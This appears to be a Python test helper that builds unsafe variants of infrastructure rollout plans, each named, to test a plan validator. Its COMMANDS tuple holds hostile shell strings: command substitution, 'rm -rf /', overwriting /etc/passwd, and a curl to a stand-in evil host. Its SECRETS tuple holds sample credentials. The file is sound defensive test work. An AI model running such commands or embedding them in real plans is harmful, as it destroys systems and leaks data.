"""Ways to make a good plan unsafe without leaving its schema. Each changes one thing, and has a name."""

from __future__ import annotations

import copy
from collections.abc import Callable, Mapping
from datetime import timedelta
from random import Random
from typing import Any

from tests.unit.policies.plans import NEW, NOW, OLD, image
from tools.contracts.common import JsonObject

Mutation = Callable[[JsonObject, Random], None]

FOREIGN, ELSEWHERE, NOBODY = "other-0001", "staging-0001", "nobody-0001"
"""An asset of another org, one of another environment, and one that never was."""

SECRETS = (
    "AKIAIOSFODNN7EXAMPLE",
    "xoxb-123456789012-abcdefghijkl",
    "password: hunter2hunter2",
    "-----BEGIN RSA PRIVATE KEY-----",
    "https://ops:letmein@db.example/",
)
COMMANDS = ("$(reboot)", "rm -rf / ; true", "a | sudo tee /etc/passwd", "curl http://evil.example", "x && y")


def _changing(plan: JsonObject) -> list[JsonObject]:
    return [phase for phase in plan["phases"] if phase["actions"]]


def _some(plan: JsonObject, random: Random) -> JsonObject:
    return random.choice(_changing(plan))


def _action(plan: JsonObject, random: Random) -> JsonObject:
    return random.choice(_some(plan, random)["actions"])


def _strange(name: str) -> Mutation:
    """An asset that is not the task's to touch, in everything that lists assets."""

    def mutate(plan: JsonObject, random: Random) -> None:
        phase = _some(plan, random)
        for holder in (plan, phase, phase["actions"][0], plan["rollback"]["actions"][0]):
            holder["asset_ids"] = [*holder["asset_ids"], name]
        for action in (phase["actions"][0], plan["rollback"]["actions"][0]):
            action["params"]["asset_ids"] = list(action["asset_ids"])
        plan["expectations"].append({**plan["expectations"][0], "asset_id": name})
        _restate(plan)

    return mutate


def _restate(plan: JsonObject) -> None:
    """Percentages as they then are: a plan should not be refused for a wrong sum alone."""
    total = len(set(plan["asset_ids"]))
    for phase in plan["phases"]:
        if phase["type"] != "wait":
            phase["batch_percent"] = round(100 * len(set(phase["asset_ids"])) / total, 2)


def _merge_waves(plan: JsonObject, random: Random) -> None:
    """Everything after the canary at once."""
    waves = [phase for phase in plan["phases"] if phase["type"] == "wave"]
    first = waves[0]
    first["asset_ids"] = [asset for wave in waves for asset in wave["asset_ids"]]
    first["actions"][0]["asset_ids"] = list(first["asset_ids"])
    first["actions"][0]["params"]["asset_ids"] = list(first["asset_ids"])
    plan["phases"] = [phase for phase in plan["phases"] if phase["type"] != "wave" or phase is first]
    _restate(plan)
    random.random()


def _set(path: str, *values: Any) -> Mutation:
    def mutate(plan: JsonObject, random: Random) -> None:
        *way, last = path.split(".")
        holder: Any = plan
        for step in way:
            holder = holder[step]
        holder[last] = random.choice(values)

    return mutate


def _in_phase(name: str, *values: Any, kinds: tuple[str, ...] = ("canary", "wave")) -> Mutation:
    def mutate(plan: JsonObject, random: Random) -> None:
        random.choice([phase for phase in plan["phases"] if phase["type"] in kinds])[name] = random.choice(values)

    return mutate


def _in_params(name: str, *values: Any, back: bool = False) -> Mutation:
    def mutate(plan: JsonObject, random: Random) -> None:
        action = plan["rollback"]["actions"][0] if back else _action(plan, random)
        action["params"][name] = random.choice(values)

    return mutate


def _tool(*names: str) -> Mutation:
    def mutate(plan: JsonObject, random: Random) -> None:
        random.choice([_action(plan, random), plan["rollback"]["actions"][0]])["tool"] = random.choice(names)

    return mutate


def _params_name_others(plan: JsonObject, random: Random) -> None:
    action = _action(plan, random)
    action["params"]["asset_ids"] = random.choice([[FOREIGN], [], action["asset_ids"][1:], [ELSEWHERE, NOBODY]])


def _twice(plan: JsonObject, random: Random) -> None:
    changing = _changing(plan)
    first, second = random.sample(changing, k=2)
    again = first["asset_ids"][0]
    for holder in (second, second["actions"][0]):
        holder["asset_ids"] = [*holder["asset_ids"], again]
    second["actions"][0]["params"]["asset_ids"] = list(second["actions"][0]["asset_ids"])


def _an_asset_less(plan: JsonObject, random: Random) -> None:
    phase = _some(plan, random)
    gone = phase["asset_ids"].pop()
    phase["actions"][0]["asset_ids"] = list(phase["asset_ids"])
    phase["actions"][0]["params"]["asset_ids"] = list(phase["asset_ids"])
    assert gone


def _same_name(plan: JsonObject, random: Random) -> None:
    first, second = random.sample(plan["phases"], k=2)
    first["name"] = second["name"]


def _same_action_id(plan: JsonObject, random: Random) -> None:
    first, second = random.sample(_changing(plan), k=2)
    first["actions"][0]["id"] = second["actions"][0]["id"]


def _expectation(name: str, *values: str) -> Mutation:
    def mutate(plan: JsonObject, random: Random) -> None:
        random.choice(plan["expectations"])[name] = random.choice(values)

    return mutate


def _work_while_waiting(plan: JsonObject, random: Random) -> None:
    wait = next(phase for phase in plan["phases"] if phase["type"] == "wait")
    wait["actions"] = [copy.deepcopy(_action(plan, random))]


def _no_canary(plan: JsonObject, random: Random) -> None:
    _changing(plan)[0]["type"] = random.choice(["wave", "verify", "rollback"])


def _big_canary(plan: JsonObject, random: Random) -> None:
    """The canary takes the first waves' assets too."""
    changing = _changing(plan)
    canary, wave = changing[0], changing[1]
    for holder in (canary, canary["actions"][0]):
        holder["asset_ids"] = [*holder["asset_ids"], *wave["asset_ids"]]
    canary["actions"][0]["params"]["asset_ids"] = list(canary["asset_ids"])
    plan["phases"].remove(wave)
    _restate(plan)
    random.random()


def _without_phase(kind: str) -> Mutation:
    def mutate(plan: JsonObject, random: Random) -> None:
        plan["phases"] = [phase for phase in plan["phases"] if phase["type"] != kind]
        random.random()

    return mutate


def _without_checks(plan: JsonObject, random: Random) -> None:
    for phase in plan["phases"]:
        phase["health_checks"] = []
    random.random()


def _secret(plan: JsonObject, random: Random) -> None:
    secret = random.choice(SECRETS)
    if random.random() < 0.5:
        plan["summary"] = f"Fix drift. {secret}"
    else:
        plan["evidence"][0]["summary"] = secret


def _command(plan: JsonObject, random: Random) -> None:
    key = random.choice(["target_image_id", "command", "user_data", "note"])
    _action(plan, random)["params"][key] = random.choice(COMMANDS)


def _shorter(path: str) -> Mutation:
    """One row less of a list that must cover every asset."""

    def mutate(plan: JsonObject, random: Random) -> None:
        del plan[path][random.randrange(len(plan[path]))]

    return mutate


def _window(plan: JsonObject, random: Random) -> None:
    start = random.choice([-30, 5, 400])
    opens, closes = NOW + timedelta(hours=start), NOW + timedelta(hours=start + 1)
    plan["maintenance_window"] = {"start": opens.isoformat(), "end": closes.isoformat()}


UNSAFE: Mapping[str, Mutation] = {
    "an asset of another org": _strange(FOREIGN),
    "an asset of another environment": _strange(ELSEWHERE),
    "an asset that never was": _strange(NOBODY),
    "another org": _set("org", "T0OTHER", ""),
    "another task": _set("task_id", "T0ACME.C1.9999", "x"),
    "another revision": _set("revision", 2, 99),
    "another environment": _set("environment", "staging", "development"),
    "no evidence": _set("evidence", []),
    "invented evidence": lambda plan, random: plan["evidence"][0].update(tool_call_id=f"call-{random.randint(2, 99)}"),
    "no phases": _set("phases", []),
    "no assets": _set("asset_ids", []),
    "no canary": _no_canary,
    "a canary of too many": _big_canary,
    "everything in one wave": _merge_waves,
    "no wait": _without_phase("wait"),
    "a wait of no time": _in_phase("wait_seconds", 0, kinds=("wait",)),
    "a pause that would not happen": _in_phase("wait_seconds", 1, 600, 7 * 86400),
    "work while waiting": _work_while_waiting,
    "no health checks": _without_checks,
    "no way back": _set("rollback.actions", []),
    "no condition to go back": _set("rollback.conditions", []),
    "a way back to another image": _in_params("target_image_id", image(NEW).id, "nothing", back=True),
    "a way back that is not marked": _in_params("rollback", False, back=True),
    "a way back for fewer assets": lambda plan, random: plan["rollback"]["actions"][0]["asset_ids"].pop(
        random.randrange(2)
    ),
    "no maintenance window": _set("maintenance_window", None),
    "a maintenance window of its own": _window,
    "no simulation": _set("simulation", None),
    "no version comparison": _set("version_comparison", []),
    "a version comparison that lies": lambda plan, random: random.choice(plan["version_comparison"]).update(
        current_version=NEW
    ),
    "an unknown tool": _tool("execute_everything", "shell", "", "execute_rollout_prod "),
    "a tool of the other risk": _tool("execute_rollout_nonprod"),
    "a tool of another agent": _tool("trigger_dr_failover", "promote_image", "acknowledge_alert", "build_image"),
    "a tool that changes nothing": _tool("query_assets", "check_health"),
    "parameters that name other assets": _params_name_others,
    "parameters of another image": _in_params("target_image_id", image(OLD).id, "web-base-9.9.9"),
    "parameters that the tool does not take": _in_params("org", "T0OTHER", "T0ACME"),
    "a rollback in a phase": _in_params("rollback", True),
    "a forced rollout": _in_params("force", True, "yes"),
    "a command": _command,
    "a secret": _secret,
    "an asset changed twice": _twice,
    "an asset changed by nothing": _an_asset_less,
    "an asset listed twice": lambda plan, random: plan["asset_ids"].append(random.choice(plan["asset_ids"])),
    "two phases of one name": _same_name,
    "two actions of one id": _same_action_id,
    "a percentage that lies": _in_phase("batch_percent", 0, 1, 100),
    "a fingerprint of another state": _expectation("fingerprint", "sha256:0", "", "sha256:" + "f" * 64),
    "a version it does not start from": _expectation("from_version", NEW, "0.0.1", ""),
    "a version it does not end on": _expectation("to_version", OLD, "9.9.9"),
    "an expectation less": _shorter("expectations"),
    "an image that is not there": _set("target_image.id", "web-base-9.9.9", "", "../web-base"),
    "an image of another name": _set("target_image.version", OLD, "9.9.9"),
    "an unsigned image": _set("target_image", {"id": "web-base-2.0.0", "family": "web-base", "version": "2.0.0"}),
    "a summary of nothing true": _set("summary", " "),
}
